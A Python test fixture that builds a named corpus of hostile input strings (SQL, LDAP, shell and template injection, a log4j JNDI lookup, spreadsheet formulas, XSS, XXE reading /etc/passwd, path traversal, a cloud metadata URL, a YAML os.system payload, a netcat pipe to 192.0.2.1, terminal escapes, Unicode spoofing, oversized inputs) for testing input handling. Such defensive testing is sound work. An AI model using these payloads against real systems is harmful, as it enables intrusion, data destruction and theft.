"""Hostile strings, one name each: every place that takes foreign text is tried with all of them.

``from hostile.corpus import CORPUS``; ``CORPUS`` maps a name (for test ids) to the string. What must hold is up to
the place: it refuses the string with an error of ours, or treats it as data and gives it back unchanged.
"""

from __future__ import annotations

import unicodedata

_STATEMENTS = {
    "sql-quote": "'; DROP TABLE event; --",
    "sql-double-quote": '"; DROP ROLE postgres; --',
    "sql-or": "' OR '1'='1",
    "sql-union": "x' UNION SELECT body FROM event --",
    "sql-comment": "admin/*",
    "sql-backslash": "\\'; SELECT pg_sleep(9); --",
    "sql-dollar": "$$; DROP TABLE event; $$",
    "sql-like": "%_%",
    "sql-bind": ":key ?1 %(x)s $1",
    "ldap-filter": "*)(uid=*))(|(uid=*",
    "ldap-dn": "cn=x,dc=example,dc=org+uid=root",
    "ldap-escape": "\\2a\\00",
    "shell-semicolon": "; touch pwned",
    "shell-substitution": "$(id)`id`${IFS}",
    "shell-pipe": "| nc 192.0.2.1 4444",
    "shell-option": "--help",
    "shell-quote": "'\"'; id #",
    "format-c": "%s%s%s%n%x",
    "format-python": "{0.__class__.__init__.__globals__}",
    "format-percent": "%(password)s",
    "template-jinja": "{{7*7}}{%raw%}",
    "template-other": "${7*7}#{7*7}<%= 7*7 %>",
    "log4j": "${jndi:ldap://192.0.2.1/a}",
    "spreadsheet": "=cmd|' /C calc'!A0",
    "spreadsheet-plus": "+1+cmd|' /C calc'!A0",
    "spreadsheet-at": '@SUM(1+1)*HYPERLINK("http://192.0.2.1")',
    "html": "<script>alert(1)</script>",
    "html-attribute": '" onmouseover="alert(1)',
    "html-entity": "&lt;b&gt;&#x202e;",
    "markdown": "[click](javascript:alert(1)) ![x](http://192.0.2.1/x.png)",
    "rich-markup": "[bold red]x[/] [link=http://192.0.2.1]y[/link]",
    "xml-entity": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "path-traversal": "../../../../etc/passwd",
    "path-windows": "..\\..\\windows\\system32",
    "path-encoded": "%2e%2e%2f%2e%2e%2f",
    "path-absolute": "/etc/shadow",
    "url-metadata": "http://169.254.169.254/latest/meta-data/",
    "json-close": '"}],"permitted":true,"x":[{"y":"',
    "json-prototype": '{"__proto__":{"admin":true}}',
    "json-duplicate": '{"a":1,"a":2}',
    "yaml-tag": "!!python/object/apply:os.system ['id']",
    "cedar": 'permit(principal, action, resource) when { "a" like "*" };',
    "regex": "(a+)+$" + "a" * 40 + "!",
}

_LINES = {
    "crlf-header": "x\r\nSet-Cookie: a=b",
    "lf": "line one\nline two",
    "cr": "visible\rhidden",
    "tab": "a\tb",
    "vertical-tab": "a\x0bb\x0cc",
    "line-separator": "a\u2028b",
    "paragraph-separator": "a\u2029b",
    "next-line": "a\x85b",
    "log-forgery": "ok\n2026-11-23 approved by root",
    "note-forgery": "x\n\n\u2014 ledger.example.org AAAA",
    "ansi-clear": "\x1b[2J\x1b[H",
    "ansi-title": "\x1b]0;owned\x07",
    "ansi-link": "\x1b]8;;http://192.0.2.1\x1b\\click\x1b]8;;\x1b\\",
    "ansi-c1": "\x9b31mred",
    "backspace": "safe\x08\x08\x08\x08evil",
    "delete": "a\x7fb",
    "bell": "\x07",
    "nul": "admin\x00",
    "nul-middle": "orders\x00_rw",
    "nul-alone": "\x00",
}

_UNICODE = {
    "bidi-override": "orders_\u202ewr",
    "bidi-isolate": "\u2066admin\u2069",
    "bidi-mark": "a\u200eb\u200fc\u061cd",
    "zero-width-space": "ad\u200bmin",
    "zero-width-joiner": "ad\u200dmin",
    "zero-width-non-joiner": "ad\u200cmin",
    "byte-order-mark": "\ufeffadmin",
    "soft-hyphen": "ad\u00admin",
    "word-joiner": "ad\u2060min",
    "tag-characters": "admin\U000e0041\U000e0042",
    "variation-selector": "admin\ufe0f",
    "variation-selector-supplement": "admin\U000e0100",
    "grapheme-joiner": "ad\u034fmin",
    "hangul-filler": "admin\u3164",
    "hangul-filler-halfwidth": "ad\uffa0min",
    "hangul-choseong-filler": "ad\u115fmin",
    "khmer-vowel": "ad\u17b4min",
    "braille-blank": "ad\u2800min",
    "mongolian-separator": "ad\u180emin",
    "musical-begin": "ad\U0001d173min",
    "no-break-space": "orders\u00a0rw",
    "ideographic-space": "orders\u3000rw",
    "em-space": "orders\u2003rw",
    "spaces-at-ends": "  admin  ",
    "homoglyph-cyrillic": "\u0430dmin",  # а, not a
    "homoglyph-greek": "\u03bfrders",  # ο, not o
    "homoglyph-fullwidth": "\uff41dmin",
    "homoglyph-kelvin": "\u212aate",  # lower() makes it an ASCII k
    "homoglyph-dotless": "adm\u0131n",
    "homoglyph-long-s": "u\u017fer",
    "mathematical": "\U0001d41admin",
    "ligature": "o\ufb03ce",
    "decomposed": "Jose\u0301",
    "composed": "Jos\u00e9",
    "combining-flood": "a" + "\u0301" * 200,
    "angstrom": "\u212b",  # NFC makes it another character
    "expands-in-nfc": "\U0001d160" * 40,
    "surrogate-high": "\ud800",
    "surrogate-low": "x\udc00y",
    "surrogate-pair-apart": "\udc00\ud800",
    "surrogate-escape": "caf\udce9",
    "private-use": "\ue000\uf8ff",
    "unassigned": "\u0378",
    "noncharacter": "\ufffe\uffff",
    "last-code-point": "\U0010ffff",
    "replacement": "a\ufffdb",
    "emoji-family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "astral": "\U0001f600",
    "arabic": "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "hebrew": "\u05e9\u05dc\u05d5\u05dd",
    "persian-joiner": "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "chinese": "\u4e2d\u6587",
    "thai": "\u0e44\u0e17\u0e22",
    "digits-arabic": "\u0661\u0662\u0663",
    "digits-fullwidth": "\uff11\uff12",
    "superscript": "\u00b2",
}

_SIZES = {
    "empty": "",
    "space": " ",
    "spaces": " " * 300,
    "long-64": "a" * 64,
    "long-255": "a" * 255,
    "long-256": "a" * 256,
    "long-255-bytes-utf8": "\u00e9" * 127 + "a",
    "long-256-bytes-utf8": "\u00e9" * 128,
    "long-4000": "b" * 4000,
    "long-4001": "b" * 4001,
    "long-40000": "c" * 40_000,
    "long-1m": "d" * 1_000_000,
    "long-escapes": '"\\' * 2000,
    "postgres-cut": "a" * 63 + "_readonly",
}

_NUMBERS = {
    "zero": "0",
    "negative": "-1",
    "int-32": "2147483648",
    "int-53": "9007199254740993",
    "int-64": "9223372036854775808",
    "int-huge": "9" * 5000,  # int() of more than 4300 digits raises
    "float": "1e309",
    "nan": "NaN",
    "infinity": "-Infinity",
    "hex": "0x10",
    "underscore": "1_000",
    "duration-zero": "0m",
    "duration-negative": "-1h",
    "duration-overflow": "999999999d",
    "duration-many-digits": "9" * 10 + "d",
    "duration-iso-overflow": "P999999999D",
    "duration-iso-negative": "-PT1H",
    "duration-weeks": "P1W",
    "duration-months": "P1M",
    "duration-unicode": "\u0661h",
    "duration-newline": "1h\n",
    "duration-fraction": "1.5h",
    "instant-no-offset": "2026-11-23T10:00:00",
    "instant-leap": "2026-02-29T00:00:00Z",
    "instant-second-60": "2026-12-31T23:59:60Z",
    "instant-year-0": "0000-01-01T00:00:00Z",
    "instant-year-1": "0001-01-01T00:00:00Z",
    "instant-underflow": "0001-01-01T00:00:00+23:59",
    "instant-overflow": "9999-12-31T23:59:59-23:59",
    "instant-bad-offset": "2026-11-23T10:00:00+99:99",
    "instant-unicode": "\u0662026-11-23T10:00:00Z",
    "instant-newline": "2026-11-23T10:00:00Z\n",
}

_NESTED = {
    "json-deep-arrays": "[" * 5000 + "]" * 5000,
    "json-deep-objects": '{"a":' * 5000 + "1" + "}" * 5000,
    "json-deep-short": "[" * 30 + "]" * 30,
    "xml-deep": "<a>" * 2000,
}

_NAMES = {
    "identity-alias-case": "human:ANN@EXAMPLE.COM",
    "identity-space": "human: ann@example.com",
    "identity-kelvin": "human:\u212aate@example.com",
    "identity-other-kind": "root:ann",
    "identity-system": "system:muniment",
    "identity-two-colons": "human:service_account:x",
    "identity-kind-case": "Human:ann@example.com",
    "identity-spiffe-case": "workload:SPIFFE://Example.org/x",
    "identity-spiffe-dots": "workload:spiffe://example.org/a/../b",
    "identity-spiffe-long": "workload:spiffe://example.org/" + "a" * 5000,
    "group-nested": "group:group:x",
    "group-empty": "group:",
}

CORPUS: dict[str, str] = {
    **_STATEMENTS, **_LINES, **_UNICODE, **_SIZES, **_NUMBERS, **_NESTED, **_NAMES,
}  # fmt: skip

#: categories of characters that act instead of being shown: controls, formats, surrogates, separators of lines
ACTING = frozenset({"Cc", "Cf", "Cs", "Zl", "Zp"})
#: formats that ordinary words of some scripts need
JOINERS = "\u200c\u200d"


def acting(text: str, allowed: str = "") -> list[str]:
    """Characters of ``text`` that a terminal or the reading order would obey."""
    return [c for c in text if unicodedata.category(c) in ACTING and c not in allowed]
